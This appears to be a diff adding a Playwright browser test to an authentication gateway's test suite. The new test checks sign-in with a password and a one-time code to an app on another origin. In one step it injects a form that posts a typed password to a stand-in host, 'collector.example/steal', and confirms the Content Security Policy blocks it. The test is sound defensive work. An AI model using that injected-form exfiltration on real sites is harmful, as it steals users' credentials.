@@ -1,7 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser, Page } from 'playwright-core';
 import { TOTP, Secret } from 'otpauth';
-import { addPerson, startTestGateway, type TestGateway } from '../helpers/gateway.ts';
+import { addPerson, enrolAuthenticator, startTestGateway, type TestGateway } from '../helpers/gateway.ts';
+import { startTestApp } from '../portal/test-app.ts';
 import { chromiumMissing, launchChromium } from '../portal/browser.ts';
 import { DEMO_PASSWORD } from '../../gateway/seed/demo.ts';
 import { dropSecondFactorRequirement, requireSecondFactor } from '../../gateway/factors/policy.ts';
@@ -324,6 +325,57 @@ describe.skipIf(chromiumMissing)('recovery codes of a new authenticator, reloade
       expect(errors).toEqual([]);
     } finally {
       await dropSecondFactorRequirement(asOperator, { kind: 'role', value: 'staff' });
+    }
+  }, 60_000);
+});
+
+describe.skipIf(chromiumMissing)('signing in to an app on another origin in a real browser', () => {
+  it('goes on to the app after the password and code posts, while a form slipped into the page cannot post elsewhere', async () => {
+    const app = await startTestApp(gateway, 'course-notes', 'Course Notes');
+    try {
+      await addPerson(gateway, 'fay');
+      const secret = await enrolAuthenticator(gateway, 'fay');
+      const { page, errors } = await watchedPage();
+      await page.goto(app.url);
+      await page.waitForSelector('#password');
+
+      // Markup injected into the sign-in page, posting what was typed to a stranger: refused before it leaves.
+      const refused = await page.evaluate(
+        () =>
+          new Promise<{ directive: string; blocked: string } | null>((resolve) => {
+            document.addEventListener('securitypolicyviolation', (event) =>
+              resolve({ directive: event.effectiveDirective, blocked: event.blockedURI }),
+            );
+            setTimeout(() => resolve(null), 3_000);
+            const form = document.createElement('form');
+            form.method = 'post';
+            form.action = 'https://collector.example/steal';
+            const field = document.createElement('input');
+            field.name = 'password';
+            field.value = 'typed';
+            form.append(field);
+            document.body.append(form);
+            form.submit();
+          }),
+      );
+      expect(refused).toEqual({ directive: 'form-action', blocked: 'https://collector.example/steal' });
+      expect(page.url()).toContain(`${gateway.issuer}/interaction/`);
+      expect(errors).toEqual([expect.stringMatching(/^csp: .*form-action/)]);
+      errors.length = 0;
+      // Playwright waits for the refused submission's navigation ever after: a fresh copy of the page.
+      await page.reload();
+
+      // The real forms: their posts end, through the gateway's redirects, at the app's callback.
+      await passwordStep(page, 'fay');
+      await page.waitForSelector('#code');
+      await clearOfStepEnd();
+      await page.fill('#code', TOTP.generate({ secret: Secret.fromBase32(secret) }));
+      await page.click('form[action$="/code"] button[type=submit]');
+      await page.waitForURL(`${app.url}/`, { timeout: 10_000 });
+      expect(await page.locator('h1').innerText()).toBe('Signed in as Test fay');
+      expect(errors).toEqual([]);
+    } finally {
+      await app.close();
     }
   }, 60_000);
 });
